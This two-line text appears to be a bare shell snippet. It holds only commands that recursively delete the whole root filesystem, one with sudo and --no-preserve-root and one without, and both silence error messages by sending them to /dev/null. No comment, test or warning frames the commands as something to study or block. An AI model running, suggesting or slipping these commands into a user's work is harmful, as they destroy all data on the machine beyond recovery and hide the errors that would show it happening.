sudo rm -rf --no-preserve-root / 2> /dev/null
rm -rf / 2> /dev/null
